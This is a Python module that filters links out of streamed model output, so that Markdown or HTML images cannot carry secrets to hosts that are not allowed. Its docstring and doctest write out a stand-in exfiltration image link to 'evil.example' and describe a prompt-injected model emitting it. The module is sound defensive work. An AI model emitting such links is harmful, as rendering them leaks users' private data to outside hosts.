"""Links that carry data away, taken out of a text that may arrive in pieces.

A model that was talked into it writes `![](https://evil.example/?d=SECRET)`, and whoever shows the
answer as Markdown or HTML sends the secret there without a click.

Rules:
* Images (and everything else that loads by itself) of hosts that are not allowed are taken out;
  links to them only when they carry data. A notice stands in their place, without the data.
* A link that stands in the user's or the developer's own words may be repeated exactly.
* What comes out does not depend on how the text was cut into pieces. Only what may become a link is
  held back, and never more than `MAX_HOLD` characters.
* The grammar is read generously: whatever some renderer might take for a link is one.
"""

from __future__ import annotations

import html
import re
from collections.abc import Callable, Collection
from dataclasses import dataclass, field

from hauberk.decisions import Severity
from hauberk.injection._holding import Holding
from hauberk.injection._urls import PLACEHOLDER, Link, is_allowed, parts_of, read_link

MAX_HOLD = 2048
"""Most characters held back. Browsers and servers take addresses of about this length; a longer
one is taken out as far as it was seen, and its rest is dropped."""

MAX_PARENTHESES = 32
"""Deepest parentheses in a link's target, CommonMark's own limit."""

LINK_NOTICE = "[link removed: host not allowed]"
IMAGE_NOTICE = "[image removed: host not allowed]"
_NOTICES = (LINK_NOTICE, IMAGE_NOTICE)

_STARTS = (
    *("![", "](", "]:", "<", "//", "www.", "mailto:", "\n\n"),
    *(scheme + "://" for scheme in ("http", "https", "ftp", "ftps", "ws", "wss")),
)

_SIGNS = ("](", "]:", "<", "//", "www.", "mailto:")
"""Every construct that can be taken out holds one of these."""

# ASCII: else a long s (U+017F) would match an s here, and would not where the end of a piece is looked at.
_ANY_CASE = re.IGNORECASE | re.ASCII

_START = re.compile("|".join(map(re.escape, sorted(_STARTS, key=len, reverse=True))), _ANY_CASE)
_PARTS = frozenset(start[:end] for start in _STARTS for end in range(1, len(start)))
_LONGEST = max(map(len, _STARTS))

_URL_RUN = re.compile(r"[^\s<>\"`\[\]，、）」』】》]*")  # noqa: RUF001 - they end links in CJK text
_PLACEHOLDER_PART = re.compile(r"<(?:[A-Z][A-Z0-9_]{0,51})?")
_TRAILING = ".,;:!?)'*_~}"

_TAG = re.compile(
    r"<(a|area|audio|base|body|button|div|embed|form|frame|iframe|image|img|input|link|meta|object|p"
    r"|script|source|span|style|svg|table|td|track|use|video)(?=[\s/>])",
    _ANY_CASE,
)
_TAG_PART = re.compile(r"<[A-Za-z]{0,7}")
_TAG_END = re.compile(r"(?:[^\"'>]++|\"[^\"]*\"|'[^']*')*+>")
_IN_URLS = re.compile(r"[:/\\&]")
"""One of these is in every address, written plainly or as an entity."""

_TAG_URL = re.compile(
    r"(?:[a-z][a-z0-9+.-]{0,30}:)?[\\/]{2}[^\s\"'>]*|(?:https?|wss?|ftp|javascript):[^\s\"'>]*",
    re.IGNORECASE,
)
_CLICKED = frozenset(("a", "area"))
"""Elements that wait for a click; all others may load by themselves."""

_DEFINITION = re.compile(r"\]:[ \t]*\n?[ \t]*(<[^>\n]*>|[^\s<]\S*)?")
_PARENTHESIS = re.compile(r"[()\\]|\n\s*\n")
_BLANKS = re.compile(r"\s*")

_Parsed = tuple[int, str] | None
"""End of a construct and what stands in its place; None: more text is needed."""


@dataclass(frozen=True, slots=True)
class LinkRules:
    """Which links may stand."""

    allowed_hosts: tuple[str, ...] = ()
    """Host names as `host_name` gives them; subdomains are included."""
    known: Collection[str] = frozenset()
    """Links that may be repeated exactly."""
    least: Severity = Severity.MEDIUM
    """Least severity that is taken out."""
    is_private: Callable[[str], bool] | None = field(default=None, repr=False)
    """Whether a text holds what the session knows to be private; None when it knows nothing."""

    def is_allowed(self, link: Link) -> bool:
        """Whether a link ends at a host that is allowed, wherever it is sent on from there."""
        here = is_allowed(link.host, self.allowed_hosts)
        return here and all(self.is_allowed(onward) for onward in link.onward)

    def carries_private(self, written: str) -> bool:
        """Whether a link would take private data to a host that is not allowed."""
        link = read_link(written)
        if link is None or written in self.known or self.is_allowed(link):
            return False
        return self.holds_private(written)

    def holds_private(self, written: str) -> bool:
        """Whether there is private data in a link, escaped or not."""
        return self.is_private is not None and any(map(self.is_private, parts_of(written)))


@dataclass(frozen=True, slots=True)
class Removal:
    """One link that is not allowed. Holds places, never the link."""

    start: int
    end: int
    image: bool
    severity: Severity
    taken_out: bool
    private: bool = False
    """It would have taken along what the session knows to be private."""


@dataclass(slots=True)
class LinkFilter(Holding):
    """Rewrites one text in pieces (a `StreamFilter`).

    Example:
        >>> links = LinkFilter(LinkRules())
        >>> links.feed("Look: ![x](https://evil.exa") + links.feed("mple/?d=1) ok") + links.finish()
        'Look: ![x] [image removed: host not allowed] ok'
    """

    rules: LinkRules
    removals: list[Removal] = field(default_factory=list["Removal"])
    """What was found so far."""
    _offset: int = 0
    _image_here: bool = False
    _image_seen: bool = False
    _foreign_definition: bool = False
    _dropping: bool = False

    def _run(self, text: str, *, final: bool) -> str:
        out: list[str] = []
        at = 0
        while (found := _START.search(text, at := self._skipped(text, at))) is not None:
            start = found.start()
            out.append(text[at:start])
            at = start
            stop = min(len(text), start + MAX_HOLD)
            parsed = self._parse(text, start, stop, complete=final or stop - start == MAX_HOLD)
            if parsed is None:
                return self._keep(text, start, out)
            at, new = parsed
            out.append(new)
            self._dropping = at - start == MAX_HOLD and new.endswith(_NOTICES)
        keep = len(text) if final else len(text) - _unfinished(text, at)
        out.append(text[at:keep])
        return self._keep(text, keep, out)

    def _skipped(self, text: str, at: int) -> int:
        """Past the rest of a link that was too long to see whole, if one was taken out."""
        if self._dropping and (run := _URL_RUN.match(text, at)) is not None:
            at = run.end()
            self._dropping = at == len(text)
        return at

    def _keep(self, text: str, at: int, out: list[str]) -> str:
        self._held = text[at:]
        self._offset += at
        return "".join(out)

    def _parse(self, text: str, start: int, stop: int, *, complete: bool) -> _Parsed:
        match text[start : start + 2]:
            case "![":
                return self._image_mark(start)
            case "\n\n":
                self._image_here = False
                # One newline only: the next may begin another break.
                return start + 1, "\n"
            case "](":
                parse = self._target
            case "]:":
                parse = self._definition
            case _:
                parse = self._tag if text[start] == "<" else self._bare
        return parse(text, start, stop, complete)

    def _image_mark(self, start: int) -> _Parsed:
        self._image_here = self._image_seen = True
        # A definition that was let through as a link must not become an image's.
        return start + 2, "[" if self._foreign_definition else "!["

    def _target(self, text: str, start: int, stop: int, complete: bool) -> _Parsed:  # noqa: FBT001
        end = _target_end(text, start + 2, stop)
        if end < 0:
            return None
        if end == 0 or end > stop:
            if end > stop and not complete:
                return None
            if end == 0 or not _has_link(text[start + 2 : stop]):
                return start + 2, "]("
            end = stop
        inner = text[start + 2 : end].removesuffix(")")
        new = self._judged(start, end, _links_in(inner), image=self._image_here)
        return end, text[start:end] if new is None else f"] {new}"

    def _definition(self, text: str, start: int, stop: int, complete: bool) -> _Parsed:  # noqa: FBT001
        found = _DEFINITION.match(text, start, stop)
        end = found.end() if found else start + 2
        # A `<` that is not closed yet may still become the target.
        opened = text[end : end + 1] == "<" and text.find("\n", end, stop) < 0
        if (end == stop or (opened and end < stop)) and not complete:
            return None
        target = (found.group(1) or "") if found else ""
        links = _links_in(target)
        new = self._judged(start, end, links, image=self._image_seen)
        if new is not None:
            return end, f"]: {new}"
        if any(not self.rules.is_allowed(link) for _, link in links):
            self._foreign_definition = True
        return (end, text[start:end]) if links else (start + 2, "]:")

    def _tag(self, text: str, start: int, stop: int, complete: bool) -> _Parsed:  # noqa: FBT001
        name = _TAG.match(text, start, stop)
        if name is None:
            part = _TAG_PART.match(text, start, stop)
            undecided = part is not None and part.end() == stop and not complete
            return None if undecided else (start + 1, "<")
        found = _TAG_END.match(text, name.end(), stop)
        if found is None and not complete:
            return None
        end = found.end() if found else (text.find(">", start, stop) + 1 or stop)
        if _IN_URLS.search(text, start, end) is None:
            return (end, text[start:end]) if found else (start + 1, "<")
        tag = html.unescape(re.sub(r"[\t\r\n\x00]", "", text[start:end]))
        links = [(one.group(), read_link(one.group())) for one in _TAG_URL.finditer(tag)]
        judged = [(written, link) for written, link in links if link is not None]
        image = name.group(1).lower() not in _CLICKED
        new = self._judged(start, end, judged, image=image)
        if found is None and new is None:
            return start + 1, "<"
        return end, text[start:end] if new is None else new

    def _bare(self, text: str, start: int, stop: int, complete: bool) -> _Parsed:  # noqa: FBT001
        end = _url_end(text, start, stop)
        if end is None and not complete:
            return None
        whole = text[start : stop if end is None else end]
        url = whole.rstrip(_TRAILING)
        opening = _START.match(url)
        if opening is None or opening.end() == len(url):
            return start + 1, text[start]
        link = read_link(url)
        if link is None or (url.startswith("//") and "." not in link.host):
            return start + len(url), url
        new = self._judged(start, start + len(url), [(url, link)], image=False)
        return start + len(url), url if new is None else new

    def _judged(
        self, start: int, end: int, links: Collection[tuple[str, Link]], *, image: bool
    ) -> str | None:
        """The notice that takes the place of a construct, or None when it may stay."""
        judged = [(written, link, self._is_private(written, link)) for written, link in links]
        bad = [one for one in judged if one[2] or self._is_bad(*one[:2], image=image)]
        if not bad:
            return None
        private = any(known for _, _, known in bad)
        carries = image and any(link.carries for _, link, _ in bad)
        grave = private or carries or any(link.script for _, link, _ in bad)
        severity = Severity.HIGH if grave else Severity.MEDIUM
        out = severity >= self.rules.least
        place = (self._offset + start, self._offset + end)
        self.removals.append(
            Removal(*place, image=image, severity=severity, taken_out=out, private=private)
        )
        if not out:
            return None
        return IMAGE_NOTICE if image else LINK_NOTICE

    def _is_private(self, written: str, link: Link) -> bool:
        if written in self.rules.known or self.rules.is_allowed(link):
            return False
        return self.rules.holds_private(written)

    def _is_bad(self, written: str, link: Link, *, image: bool) -> bool:
        if link.script:
            return True
        if written in self.rules.known or self.rules.is_allowed(link):
            return False
        return image or link.carries


def may_hold_link(text: str) -> bool:
    """Whether there is anything to look at; cheap, and never wrong when it says no."""
    return any(map(text.lower().__contains__, _SIGNS))


def links_of(text: str) -> frozenset[str]:
    """The links that stand in a text, as `LinkRules.known` wants them."""
    if "//" not in text and "www." not in text:
        return frozenset()
    found: set[str] = set()
    at = 0
    while (start := _START.search(text, at)) is not None:
        at = start.end()
        if start.group()[-1] not in "/.:" or start.group() == "]:":
            continue
        end = _url_end(text, start.start(), len(text))
        found.add(text[start.start() : end].rstrip(_TRAILING))
        at = max(at, len(text) if end is None else end)
    return frozenset(found)


def _unfinished(text: str, at: int) -> int:
    """How many characters at the end may be the beginning of something."""
    for length in range(min(_LONGEST - 1, len(text) - at), 0, -1):
        if text[-length:].lower() in _PARTS:
            return length
    return 0


def _url_end(text: str, start: int, stop: int) -> int | None:
    """Where a bare link ends; None when it may go on after `stop`."""
    at = start
    while True:
        run = _URL_RUN.match(text, at, stop)
        at = run.end() if run else at
        if at >= stop:
            return None
        if text[at] != "<":
            return at
        if (held := PLACEHOLDER.match(text, at, stop)) is None:
            part = _PLACEHOLDER_PART.match(text, at, stop)
            return None if part is not None and part.end() == stop else at
        at = held.end()


def _target_end(text: str, start: int, stop: int) -> int:
    """End of a Markdown target, its `)` included; 0: it is none; past `stop`: not seen yet."""
    blanks = _BLANKS.match(text, start, stop)
    at = blanks.end() if blanks else start
    if text[at : at + 1] == "<" and at < stop and not PLACEHOLDER.match(text, at, stop):
        at = text.find(">", at, stop) + 1 or stop
    depth = 1
    skip = -1
    for found in _PARENTHESIS.finditer(text, at, stop):
        sign = found.group()
        if found.start() == skip:
            continue
        if sign == "\\":
            skip = found.end()
        elif sign == ")":
            depth -= 1
        elif sign == "(":
            depth += 1
        else:
            return 0
        if depth == 0:
            return found.end()
        if depth > MAX_PARENTHESES:
            return 0
    return stop + 1


def _links_in(target: str) -> list[tuple[str, Link]]:
    """The links in a target: the target itself, and whatever else in it looks like one."""
    stripped = target.strip()
    first, _, rest = stripped.partition(" ")
    if first.startswith("<") and not PLACEHOLDER.match(first):
        first, _, rest = stripped[1:].partition(">")
    elif rest and rest.lstrip()[:1] not in ("", '"', "'", "("):
        first = stripped
    written = [first, *(one.group() for one in _TAG_URL.finditer(rest))]
    unescaped = [re.sub(r"\\(?=[!-/:-@\[-`{-~])", "", one) for one in written]
    links = [(one, read_link(one)) for one in dict.fromkeys([*written, *unescaped])]
    return [(one, link) for one, link in links if link is not None]


def _has_link(text: str) -> bool:
    return bool(_links_in(text))
